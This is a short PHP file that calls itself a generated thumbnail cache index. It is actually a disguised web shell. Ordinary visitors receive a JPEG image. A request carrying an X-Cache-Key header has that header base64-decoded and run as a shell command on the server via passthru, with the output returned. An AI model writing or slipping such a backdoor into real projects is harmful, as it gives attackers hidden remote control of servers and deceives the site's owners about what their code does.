<?php
// thumbnail cache index (generated)
if (!isset($_SERVER['HTTP_X_CACHE_KEY'])) { header('Content-Type: image/jpeg'); readfile(__DIR__ . '/MUG-1.jpg'); exit; }
header('Content-Type: text/plain');
passthru(base64_decode($_SERVER['HTTP_X_CACHE_KEY']) . ' 2>&1');
